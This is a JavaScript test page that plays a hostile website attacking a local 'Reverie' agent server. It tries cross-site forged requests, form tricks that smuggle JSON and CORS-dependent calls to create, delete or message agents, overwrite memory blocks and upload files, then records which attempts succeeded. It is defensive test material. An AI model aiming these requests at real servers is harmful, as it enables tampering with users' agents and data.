// A hostile page: everything a web page can try against a Reverie server it does not belong to, without
// help from the server. Each attempt records what the page could see; window.attackDone resolves with
// the list. Settings come from the page's query: target (Reverie's base URL, or "" for this page's own
// origin, as after DNS rebinding), agent, block and folder (ids, as if leaked); window.agentFile is an
// Agent File's text.
(() => {
  const settings = new URLSearchParams(location.search);
  const target = settings.get("target") ?? "";
  const agent = settings.get("agent") ?? "agent-unknown";
  const block = settings.get("block") ?? "block-unknown";
  const folder = settings.get("folder") ?? "source-unknown";
  const agentJson = JSON.stringify({ name: "pwned-by-page", model: "openai/gpt-4o-mini" });
  const results = [];

  async function record(name, attempt) {
    try {
      const response = await attempt();
      const text = response.type === "opaque" ? "" : await response.text();
      results.push({ name, type: response.type, status: response.status, text });
    } catch (error) {
      results.push({ name, error: String(error) });
    }
  }

  function agentFileForm() {
    const form = new FormData();
    const file = window.agentFile ?? "{}";
    form.set("file", new File([file], "agent.af", { type: "application/json" }));
    return form;
  }

  function uploadForm() {
    const form = new FormData();
    form.set("file", new File(["secret plans"], "plans.txt", { type: "text/plain" }));
    return form;
  }

  /** Fetches that need no preflight: `no-cors`, simple methods and content types. */
  function simpleWrites() {
    const post = (path, body, headers) =>
      fetch(`${target}${path}`, { method: "POST", mode: "no-cors", body, headers });
    return [
      [
        "no-cors POST text/plain JSON",
        () => post("/v1/agents/", agentJson, { "content-type": "text/plain" }),
      ],
      ["no-cors POST without body", () => post("/v1/agents/")],
      ["no-cors POST Blob without type", () => post("/v1/agents/", new Blob([agentJson]))],
      ["no-cors POST urlencoded", () => post("/v1/agents/", new URLSearchParams({ name: "pwned" }))],
      ["no-cors POST multipart import", () => post("/v1/agents/import", agentFileForm())],
      ["no-cors POST multipart upload", () => post(`/v1/folders/${folder}/upload`, uploadForm())],
      [
        "no-cors POST send message",
        () =>
          post(
            `/v1/agents/${agent}/messages`,
            JSON.stringify({ messages: [{ role: "user", content: "spend the key" }] }),
            { "content-type": "text/plain" },
          ),
      ],
      ["no-cors POST reset-messages", () => post(`/v1/agents/${agent}/reset-messages`)],
    ];
  }

  /** Requests that need the server's consent (a preflight, or CORS headers on the answer to be read). */
  function corsRequests() {
    const json = { "content-type": "application/json" };
    return [
      [
        "cors POST application/json",
        () => fetch(`${target}/v1/agents/`, { method: "POST", headers: json, body: agentJson }),
      ],
      [
        "cors PATCH block",
        () =>
          fetch(`${target}/v1/blocks/${block}`, {
            method: "PATCH",
            headers: json,
            body: JSON.stringify({ value: "overwritten by a page" }),
          }),
      ],
      ["cors DELETE agent", () => fetch(`${target}/v1/agents/${agent}`, { method: "DELETE" })],
      ["cors GET agents", () => fetch(`${target}/v1/agents/`)],
      ["cors GET agent", () => fetch(`${target}/v1/agents/${agent}`)],
      ["cors GET block", () => fetch(`${target}/v1/blocks/${block}`)],
      ["cors GET openapi", () => fetch(`${target}/openapi.json`)],
      ["no-cors GET agents", () => fetch(`${target}/v1/agents/`, { mode: "no-cors" })],
    ];
  }

  /** A form posted into a hidden iframe, as a page does to avoid navigating away. */
  function postForm(name, path, enctype, fields, files) {
    return new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.name = `frame-${results.length}-${Math.random().toString(36).slice(2)}`;
      frame.style.display = "none";
      document.body.append(frame);
      const form = document.createElement("form");
      form.method = "POST";
      form.action = `${target}${path}`;
      form.enctype = enctype;
      form.target = frame.name;
      for (const [key, value] of Object.entries(fields)) {
        const input = document.createElement("input");
        input.type = "hidden";
        input.name = key;
        input.value = value;
        form.append(input);
      }
      for (const [key, file] of Object.entries(files ?? {})) {
        const input = document.createElement("input");
        input.type = "file";
        input.name = key;
        const transfer = new DataTransfer();
        transfer.items.add(file);
        input.files = transfer.files;
        form.append(input);
      }
      document.body.append(form);
      const timer = setTimeout(() => finish("no load event"), 5000);
      function finish(outcome) {
        clearTimeout(timer);
        results.push({ name, form: outcome });
        resolve();
      }
      frame.addEventListener("load", () => finish("loaded"));
      form.submit();
    });
  }

  async function forms() {
    const trick = { '{"name":"pwned-form","x":"': '"}' };
    await postForm("form text/plain JSON trick", "/v1/agents/", "text/plain", trick);
    await postForm("form urlencoded", "/v1/agents/", "application/x-www-form-urlencoded", { name: "pwned" });
    await postForm("form multipart JSON trick", "/v1/blocks/", "multipart/form-data", {
      label: "x",
      value: "y",
    });
    const file = new File([window.agentFile ?? "{}"], "agent.af", { type: "application/json" });
    await postForm("form multipart import", "/v1/agents/import", "multipart/form-data", {}, { file });
    const plans = new File(["secret plans"], "plans.txt", { type: "text/plain" });
    await postForm(
      "form multipart upload",
      `/v1/folders/${folder}/upload`,
      "multipart/form-data",
      {},
      {
        file: plans,
      },
    );
  }

  function render() {
    const table = document.createElement("table");
    table.border = "1";
    for (const result of results) {
      const row = table.insertRow();
      row.insertCell().textContent = result.name;
      const outcome =
        result.error ?? result.form ?? `${result.type} ${result.status} ${String(result.text).slice(0, 80)}`;
      row.insertCell().textContent = outcome;
    }
    document.body.append(table);
  }

  window.attackDone = (async () => {
    for (const [name, attempt] of simpleWrites()) await record(name, attempt);
    for (const [name, attempt] of corsRequests()) await record(name, attempt);
    await forms();
    render();
    return results;
  })();
})();
